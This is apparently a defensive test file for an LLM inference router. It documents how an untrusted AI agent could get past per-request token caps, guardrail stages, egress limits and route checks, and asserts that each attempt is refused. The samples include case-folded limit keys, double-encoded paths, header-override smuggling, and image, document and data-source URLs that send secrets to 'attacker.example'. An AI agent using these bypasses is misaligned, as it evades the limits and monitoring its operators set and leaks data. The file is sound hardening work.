/**
 * An attacker's review of the per-API rules (ADR 0034): ways an untrusted agent gets around the
 * per-request cap, the guardrail stages, provider-run network access and the route table. Each
 * test drives the real pure decisions (`decideRequest`, `matchRoute`); a test marked `todo` is a
 * hole found and documented but not fixed.
 */
import { describe, it } from 'node:test';
import { request as httpRequest } from 'node:http';
import assert from 'node:assert/strict';
import type { InferenceRules } from '../snapshot.js';
import { decideRequest, newMeter, settleTokens, type Forward, type PipelineContext, type Reject } from './pipeline.js';
import { CHAT, EMBEDDINGS, MESSAGES, RESPONSES, type InferenceApi } from './apis.js';
import { matchRoute, type ApiRoute } from './routes.js';
import { inferenceRules } from '../testing/rules.js';
import { budgetPolicy, startDirRouter } from '../testing/policy-dir.js';
import { startOpenAIStub } from '../stubs/openai.js';

const CTX: PipelineContext = { defaultDailyTokens: null, guardrailConfigured: true };
const route = (api: InferenceApi): ApiRoute => ({ kind: 'api', api, prefix: '/v1', deployment: undefined, query: '' });
const capped = (perRequestTokens: number): InferenceRules =>
  inferenceRules({ tokenBudget: { perRequestTokens, dailyTokens: null, monthlyTokens: null } });
const guarded: InferenceRules = inferenceRules({
  guardrails: [{ provider: 'openai-moderation', applyTo: 'input' }],
});

function decide(api: InferenceApi, body: string | object, r: InferenceRules | undefined): Reject | Forward {
  return decideRequest(Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)), route(api), r, CTX);
}
function refusedWith(d: Reject | Forward, status: number): void {
  assert.equal(d.kind, 'reject', `expected a refusal, forwarded ${d.kind === 'forward' ? d.text.slice(0, 300) : ''}`);
  assert.equal((d as Reject).refusal.status, status, JSON.stringify((d as Reject).refusal.body));
}

describe('hostile: a limit field spelled so a case-insensitive upstream reads it', () => {
  // Go's encoding/json (Ollama, a supported provider, and most Go gateways) matches object keys
  // case-insensitively with Unicode simple folding (ſ → s, K → k), and the last key read wins. The
  // router reads only the exact spelling, so `MAX_TOKENS` after a small `max_tokens` sets the
  // upstream's limit past the cap, and `Stream` streams without the usage the router asks for.
  const msgs = [{ role: 'user', content: 'hi' }];
  for (const key of ['MAX_TOKENS', 'Max_Tokens', 'max_tokenſ', 'max_to\u212Aens', 'N']) {
    it(`refuses ${JSON.stringify(key)} beside max_tokens under a cap (chat)`, () => {
      refusedWith(decide(CHAT, { model: 'm', messages: msgs, max_tokens: 10, [key]: 100_000 }, capped(100)), 400);
    });
  }
  it('refuses a Kelvin-sign spelling of a limit field on the embeddings route (ollama speaks it)', () => {
    refusedWith(decide(EMBEDDINGS, { model: 'm', input: 'x', max_toKens: 5 }, capped(100)), 400);
  });
  it('refuses Max_Output_Tokens and Background on Responses, and Max_Tokens / Thinking on Messages', () => {
    refusedWith(decide(RESPONSES, { model: 'm', input: 'x', Max_Output_Tokens: 100_000 }, capped(100)), 400);
    refusedWith(decide(RESPONSES, { model: 'm', input: 'x', Background: true }, capped(100)), 400);
    refusedWith(decide(MESSAGES, { model: 'm', messages: msgs, max_tokens: 10, Max_Tokens: 100_000 }, capped(100)), 400);
    refusedWith(decide(MESSAGES, { model: 'm', messages: msgs, max_tokens: 10, Thinking: { budget_tokens: 1e5 } }, capped(100)), 400);
  });
  it('refuses a case variant inside stream_options, reasoning and thinking', () => {
    const stream = { model: 'm', messages: msgs, stream: true, stream_options: { include_usage: false, Include_Usage: false } };
    refusedWith(decide(CHAT, stream, capped(100)), 400);
    refusedWith(decide(CHAT, { model: 'm', messages: msgs, stream: true, stream_options: { Include_Usage: false } }, capped(100)), 400);
    const thinking = { type: 'enabled', budget_tokens: 10, Budget_Tokens: 100_000 };
    refusedWith(decide(MESSAGES, { model: 'm', messages: msgs, max_tokens: 50, thinking }, capped(100)), 400);
    refusedWith(decide(RESPONSES, { model: 'm', input: 'x', reasoning: { effort: 'low', Max_Tokens: 100_000 } }, capped(100)), 400);
  });
  it('refuses a media key in another case inside a text part under an input stage', () => {
    const content = [{ type: 'text', text: 'look', Image_URL: { url: 'https://example.com/x.png' } }];
    refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, guarded), 403);
  });
  it('still forwards ordinary requests whose keys are exact (no false refusal)', () => {
    const d = decide(CHAT, { model: 'm', messages: msgs, max_tokens: 10, temperature: 0.5, user: 'U' }, capped(100));
    assert.equal(d.kind, 'forward');
  });
});

describe('hostile: the route table and dot segments', () => {
  it('refuses GET /v1/models/.. and /v1/models/. (a dot segment an upstream resolves to its parent)', () => {
    for (const p of ['/v1/models/..', '/v1/models/.', '/v1/models/..?x=1']) assert.equal(matchRoute('GET', p).kind, 'refused', p);
    assert.equal(matchRoute('GET', '/v1/models/gpt-4.1').kind, 'models');
  });
  it('refuses a deployment segment that still holds an encoding after one decoding (a double-decoding gateway reads ../)', () => {
    for (const raw of ['%252e%252e', '%252e%252e%252fbatches%253f', 'a%2525b']) {
      const m = matchRoute('POST', `/openai/deployments/${raw}/chat/completions`);
      assert.equal(m.kind, 'refused', raw);
      assert.equal(m.kind === 'refused' ? m.code : '', 'invalid_deployment');
    }
    assert.equal(matchRoute('POST', '/openai/deployments/gpt-4o_mini.1/chat/completions').kind, 'api');
  });
});

describe('hostile: media the provider fetches from a URL of the agent', () => {
  // ADR 0034 refuses provider-run tools because "they reach the network from the provider, outside
  // the sandbox's egress policy": a URL-sourced image or document is fetched by the provider just the
  // same (OpenAI fetches `image_url.url`, Anthropic fetches `source.type: "url"`), so an agent can
  // put any data in a URL to a host of its choosing. It is also billed by the fetched media's size,
  // which the reservation (bytes of the request) does not know: a 60-byte PDF URL can cost 100k+
  // input tokens, so parallel requests overshoot the daily budget by far more than they reserve.
  const noStages = capped(1000);
  it('refuses a chat image_url with an http(s) URL', () => {
    const content = [{ type: 'image_url', image_url: { url: 'https://attacker.example/?secret=abc' } }];
    refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, noStages), 403);
  });
  it('refuses an Anthropic document or image with source.type url', () => {
    const content = [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/big.pdf?secret=abc' } }];
    refusedWith(decide(MESSAGES, { model: 'm', max_tokens: 10, messages: [{ role: 'user', content }] }, noStages), 403);
  });
  it('refuses a Responses input_file with file_url', () => {
    const input = [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/?secret=abc' }] }];
    refusedWith(decide(RESPONSES, { model: 'm', input }, noStages), 403);
  });
});

describe('hostile: Azure OpenAI On Your Data on chat completions', () => {
  // Azure's chat completions read `data_sources`: the provider queries the endpoint the request
  // names (Azure AI Search, Elasticsearch, Pinecone, MongoDB …) with the conversation, from its own
  // network: the same exfiltration channel as a provider-run tool, and the documents it retrieves
  // reach the model unjudged by any input stage and unreserved.
  const msgs = [{ role: 'user', content: 'hi' }];
  for (const key of ['data_sources', 'dataSources']) {
    it(`refuses ${key} as a provider-run tool (403 inference_policy_provider_tool_refused)`, () => {
      const ds = [{ type: 'elasticsearch', parameters: { endpoint: 'https://attacker.example', index_name: 'x' } }];
      const d = decide(CHAT, { model: 'm', messages: msgs, [key]: ds }, undefined);
      refusedWith(d, 403);
      assert.equal((d as Reject).refusal.body.error.code, 'inference_policy_provider_tool_refused');
    });
  }
});

describe('hostile: request headers that retarget the governed body', { timeout: 30_000 }, () => {
  // The router forwards the agent's end-to-end headers. Servers and gateways in front of an
  // upstream (IIS, Symfony/Laravel, many API gateways) read `X-Original-URL` / `X-Rewrite-URL` as
  // the path and `X-HTTP-Method-Override` as the method: a chat body carrying batch fields would be
  // served as `/v1/batches`, which the route table refuses. A `content-type` charset other than
  // UTF-8 (or a `content-encoding`) makes the upstream decode other bytes than the router judged.
  it('forwards none of them, and sends the router body as application/json', async (t) => {
    const up = await startOpenAIStub();
    const r = await startDirRouter({ inference: budgetPolicy({ perRequestTokens: 100 }) }, { upstream: up.url });
    t.after(async () => {
      await r.stop();
      await up.close();
    });
    // node:http, since fetch refuses to send a `connection` header naming another header.
    const body = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hi' }], input_file_id: 'file-1' });
    const res = await new Promise<{ status: number; text: () => Promise<string> }>((resolve, reject) => {
      const req = httpRequest(`${r.router.url}/v1/chat/completions`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json; charset=iso-8859-1',
          'content-length': Buffer.byteLength(body),
          'x-original-url': '/v1/batches',
          'x-rewrite-url': '/v1/batches',
          'x-http-method-override': 'DELETE',
          'x-original-method': 'DELETE',
          connection: 'content-type',
        },
      });
      req.on('response', (m) => {
        const chunks: Buffer[] = [];
        m.on('data', (c: Buffer) => chunks.push(c));
        m.on('end', () => resolve({ status: m.statusCode ?? 0, text: () => Promise.resolve(Buffer.concat(chunks).toString()) }));
      });
      req.on('error', reject);
      req.end(body);
    });
    assert.equal(res.status, 200, await res.text());
    const seen = up.requests.at(-1);
    assert.ok(seen !== undefined, 'the upstream was sent the request');
    for (const h of ['x-original-url', 'x-rewrite-url', 'x-http-method-override', 'x-original-method'])
      assert.equal(seen.headers[h], undefined, `${h} forwarded`);
    assert.equal(seen.headers['content-type'], 'application/json');
  });
});

describe('hostile: a daily budget without a per-request cap', () => {
  // With `dailyTokens` (or the router's TOKEN_BUDGET_DAILY default) and no `perRequestTokens`, a
  // request without a limit field reserves prompt + 4096 (UNBOUNDED_COMPLETION_RESERVE) and is
  // forwarded without one, so the upstream may generate up to the model's own maximum (100k+ on
  // a reasoning model). The ledger admits every request while used + reserved < cap, so N parallel
  // such requests overshoot the day by about N × (model maximum − 4096), not by one reservation.
  const daily = inferenceRules({ tokenBudget: { perRequestTokens: null, dailyTokens: 10_000, monthlyTokens: null } });
  const bounded = (d: Reject | Forward, field: string): void => {
    assert.equal(d.kind, 'forward');
    const f = d as Forward;
    const limit = f.body[field];
    assert.equal(typeof limit, 'number', `${field} is not set in the forwarded body: the upstream is unbounded`);
    assert.ok((f.reserve?.tokens ?? 0) >= (limit as number), 'the reservation covers the limit forwarded');
  };
  it('chat: the forwarded body carries the completion bound the reservation assumed', () =>
    bounded(decide(CHAT, { model: 'm', messages: [{ role: 'user', content: 'write a novel' }] }, daily), 'max_tokens'));
  it('Responses: the forwarded body carries the max_output_tokens the reservation assumed', () =>
    bounded(decide(RESPONSES, { model: 'm', input: 'write a novel' }, daily), 'max_output_tokens'));
});

describe('hostile: a provider-run tool sent as one object instead of a list', () => {
  // `tools` is checked only when it is a list; a lax upstream (or gateway) that accepts a single
  // tool object would run a web search or an MCP connector the router never looked at.
  it('refuses a non-list tools on Responses and Anthropic Messages', () => {
    const d1 = decide(RESPONSES, { model: 'm', input: 'x', tools: { type: 'web_search' } }, undefined);
    refusedWith(d1, 403);
    const d2 = decide(MESSAGES, { model: 'm', max_tokens: 5, messages: [], tools: { type: 'web_fetch_20250910', name: 'f' } }, undefined);
    refusedWith(d2, 403);
  });
});

describe('hostile: an upstream 5xx after the model ran', () => {
  // A gateway in front of the provider (Azure API Management, a corporate proxy) answers 504 when a
  // long non-streamed generation outlasts its timeout, while the provider finishes and bills it; a
  // 5xx also moves on to the next candidate, whose usage alone is then charged. The settlement
  // charges a non-2xx answer 0, so an agent asking for long answers behind such a gateway spends
  // its budget's worth for free.
  it('a written request answered 500, 502 or 504 is charged at least its reservation; 503, 529, 429 and 4xx nothing', () => {
    for (const status of [500, 502, 504]) {
      const m = { ...newMeter(), written: true, status, complete: true, bytes: 20 };
      assert.ok(settleTokens(m, 100, 5000) >= 5000, `${status} settled at ${settleTokens(m, 100, 5000)}`);
    }
    for (const status of [400, 403, 429, 503, 529]) {
      const m = { ...newMeter(), written: true, status, complete: true, bytes: 20 };
      assert.equal(settleTokens(m, 100, 5000), 0, `${status}`);
    }
    // Never written: no upstream can have run it, whatever the status.
    assert.equal(settleTokens({ ...newMeter(), status: 504 }, 100, 5000), 0);
  });
});

describe('hostile: a model that searches the web by itself', () => {
  // Without `modelPreference` the agent names the model. OpenAI's search models
  // (`gpt-4o-search-preview`, `gpt-4o-mini-search-preview`) search the web on every chat request,
  // with no `web_search_options` needed, so the provider-run-tool refusal is passed by a model name.
  it('refuses a search model on chat completions and Responses, in any spelling, when no policy model replaces it', () => {
    const msgs = [{ role: 'user', content: 'x' }];
    for (const model of [
      'gpt-4o-search-preview',
      'GPT-4o-Mini-Search-Preview',
      'gpt-5-search-api',
      'gpt-4o-\u200bsearch-preview',
      'o3-deep-research',
    ])
      refusedWith(decide(CHAT, { model, messages: msgs }, undefined), 403);
    refusedWith(decide(RESPONSES, { model: 'o4-mini-deep-research', input: 'x' }, undefined), 403);
    // Names that merely contain the letters pass.
    for (const model of ['gpt-4o', 'researcher-v2', 'gpt-searchlight'])
      assert.equal(decide(CHAT, { model, messages: msgs }, undefined).kind, 'forward', model);
  });
  it('a policy deployment replaces the agent model, so the name it sent does not matter', () => {
    const rules = inferenceRules({ modelPreference: { primary: { provider: 'azure-openai', deployment: 'gpt-4o' }, fallback: [] } });
    assert.equal(decide(CHAT, { model: 'gpt-4o-search-preview', messages: [{ role: 'user', content: 'x' }] }, rules).kind, 'forward');
  });
});
